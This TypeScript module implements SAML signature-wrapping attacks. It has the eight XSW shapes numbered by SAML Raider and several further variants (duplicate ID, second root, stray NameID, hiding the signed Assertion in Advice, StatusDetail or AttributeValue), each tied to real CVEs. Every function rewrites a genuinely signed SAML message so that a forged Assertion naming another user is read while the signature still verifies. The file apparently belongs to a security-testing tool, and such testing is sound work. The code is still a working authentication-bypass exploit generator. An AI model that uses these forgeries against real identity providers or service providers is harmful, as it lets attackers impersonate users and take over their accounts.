import {
  append,
  forge,
  intoExtensions,
  prefixOf,
  requireId,
  splice,
  techniques,
  textOf,
  withId,
} from './attack-technique.ts';
import { locate } from './locate.ts';
import { mutate } from './mutate.ts';

/** The signed Assertion with what is made of it. */
interface Pieces {
  /** As it stands, with its signature. */
  readonly signed: string;
  /** Without its signature: to the digest it is the same. */
  readonly bare: string;
  readonly signature: string;
  /** Another user under another ID, unsigned. */
  readonly forged: string;
  /** `saml:` */
  readonly prefix: string;
  /** Puts text where the signed Assertion stands. */
  put(text: string): string;
}

const SIGNED_BY = ['CVE-2016-5697', 'CVE-2024-45409', 'CVE-2025-47949'] as const;

/**
 * Signature wrapping: a genuine signature is kept valid somewhere, and a forgery stands where it is read. `xsw1` to
 * `xsw8` are the shapes that SAML Raider numbers; one and two need a signed Response, the others a signed Assertion.
 *
 * @see Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012.
 */
export const wrapping = techniques({
  xsw1: {
    says: 'A forged Response carries the signature, and in the Signature the Response that was signed.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { bare, signature, forged } = responsePieces(xml, nameId);
      const holding = append(signature, 'Signature', bare);
      return mutate(forged, { kind: 'insert', element: 'Issuer', where: 'after', markup: holding });
    },
  },
  xsw2: {
    says: 'A forged Response holds the Response that was signed, and the signature after it.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { bare, signature, forged } = responsePieces(xml, nameId);
      const markup = bare + signature;
      return mutate(forged, { kind: 'insert', element: 'Issuer', where: 'after', markup });
    },
  },
  xsw3: {
    says: 'A forged Assertion stands before the signed one.',
    advisories: [...SIGNED_BY, 'CVE-2022-41912'],
    apply: (xml, { nameId }) => {
      const { put, forged, signed } = pieces(xml, nameId);
      return put(forged + signed);
    },
  },
  xsw4: {
    says: 'A forged Assertion holds the signed one as a child.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { put, forged, signed } = pieces(xml, nameId);
      return put(append(forged, 'Assertion', signed));
    },
  },
  xsw5: {
    says: 'A forged Assertion carries the signature; the one that was signed stands after it.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { put, forged, signature, bare } = pieces(xml, nameId);
      return put(carrying(forged, signature) + bare);
    },
  },
  xsw6: {
    says: 'A forged Assertion carries the signature, and in the Signature the Assertion that was signed.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { put, forged, signature, bare } = pieces(xml, nameId);
      return put(carrying(forged, append(signature, 'Signature', bare)));
    },
  },
  xsw7: {
    says: 'A forged Assertion stands in Extensions, before the signed one.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => intoExtensions(xml, pieces(xml, nameId).forged),
  },
  xsw8: {
    says: 'A forged Assertion carries the signature, which holds the Assertion that was signed in an Object.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { put, forged, signature, bare } = pieces(xml, nameId);
      const ds = prefixOf(locate(signature, 'Signature'));
      const object = `<${ds}Object>${bare}</${ds}Object>`;
      return put(carrying(forged, append(signature, 'Signature', object)));
    },
  },
  'wrap-after': {
    says: 'A forged Assertion stands after the signed one, for a reader that takes the last.',
    advisories: [...SIGNED_BY, 'CVE-2022-41912'],
    apply: (xml, { nameId }) => {
      const { put, forged, signed } = pieces(xml, nameId);
      return put(signed + forged);
    },
  },
  'wrap-extensions': {
    says: 'The signed Assertion was moved into Extensions, and a forged one stands in its place.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { put, forged, signed } = pieces(xml, nameId);
      return intoExtensions(put(forged), signed);
    },
  },
  'wrap-confirmation-data': {
    says: 'The signed Assertion hides in the SubjectConfirmationData of a forged one.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { put, forged, signed, prefix } = pieces(xml, nameId);
      const data = locate(forged, 'SubjectConfirmationData');
      const tag = forged.slice(data.start, data.openEnd).replace(/\s*\/?>$/, '');
      return put(splice(forged, data, `${tag}>${signed}</${prefix}SubjectConfirmationData>`));
    },
  },
  'wrap-advice': {
    says: 'The signed Assertion hides in the Advice of a forged one.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { put, forged, signed, prefix } = pieces(xml, nameId);
      const markup = `<${prefix}Advice>${signed}</${prefix}Advice>`;
      return put(mutate(forged, { kind: 'insert', element: 'Conditions', where: 'after', markup }));
    },
  },
  'wrap-status-detail': {
    says: 'The signed Assertion was moved into StatusDetail, and a forged one stands in its place.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { put, forged, signed } = pieces(xml, nameId);
      const samlp = prefixOf(locate(xml, 'Response'));
      return append(put(forged), 'Status', `<${samlp}StatusDetail>${signed}</${samlp}StatusDetail>`);
    },
  },
  'wrap-attribute-value': {
    says: 'The signed Assertion hides in an AttributeValue of a forged one.',
    advisories: SIGNED_BY,
    apply: (xml, { nameId }) => {
      const { put, forged, signed } = pieces(xml, nameId);
      return put(append(forged, 'AttributeValue', signed));
    },
  },
  'duplicate-id': {
    says: 'A forged Assertion with the ID of the signed one stands before it.',
    advisories: ['CVE-2024-45409'],
    apply: (xml, { nameId }) => mutate(xml, { kind: 'wrap', shape: 'same-id', nameId }),
  },
  'second-root': {
    says: 'A second root element with a forged Assertion follows the signed message.',
    advisories: ['CVE-2022-39299', 'CVE-2022-39353'],
    apply: (xml, { nameId }) => xml + withId(forge(xml, nameId), 'Response', '_forged'),
  },
  'stray-name-id': {
    says: 'A NameID stands in Extensions, before the one of the signed Assertion.',
    advisories: ['CVE-2017-1000452'],
    apply: (xml, { nameId }) => {
      const assertion = locate(xml, 'Assertion');
      const prefix = prefixOf(assertion);
      const uri = assertion.attributes.find(({ name }) => name === declarationOf(prefix))?.raw;
      const declaration = uri === undefined ? '' : ` ${declarationOf(prefix)}="${uri}"`;
      return intoExtensions(xml, `<${prefix}NameID${declaration}>${nameId}</${prefix}NameID>`);
    },
  },
});

function declarationOf(prefix: string): string {
  return prefix === '' ? 'xmlns' : `xmlns:${prefix.slice(0, -1)}`;
}

function pieces(xml: string, nameId: string): Pieces {
  const original = locate(xml, 'Assertion');
  const signed = textOf(xml, original);
  const signature = textOf(signed, locate(signed, 'Signature'));
  const bare = mutate(signed, { kind: 'remove-element', element: 'Signature' });
  return {
    signed,
    bare,
    signature,
    forged: withId(forge(signed, nameId), 'Assertion', `${requireId(original)}-forged`),
    prefix: prefixOf(original),
    put: (text) => splice(xml, original, text),
  };
}

/** The same of a Response. */
function responsePieces(xml: string, nameId: string): Pick<Pieces, 'bare' | 'signature' | 'forged'> {
  const response = locate(xml, 'Response');
  const signature = locate(xml, 'Signature');
  if (signature.parent?.localName !== 'Response') throw new TypeError('The Response is not signed.');
  return {
    bare: splice(xml, signature, '').slice(response.start),
    signature: textOf(xml, signature),
    forged: withId(
      withId(forge(xml, nameId), 'Response', `${requireId(response)}-forged`),
      'Assertion',
      `${requireId(locate(xml, 'Assertion'))}-forged`,
    ),
  };
}

/** An Assertion with a signature in SAML's place. */
function carrying(assertion: string, signature: string): string {
  return mutate(assertion, { kind: 'insert', element: 'Issuer', where: 'after', markup: signature });
}
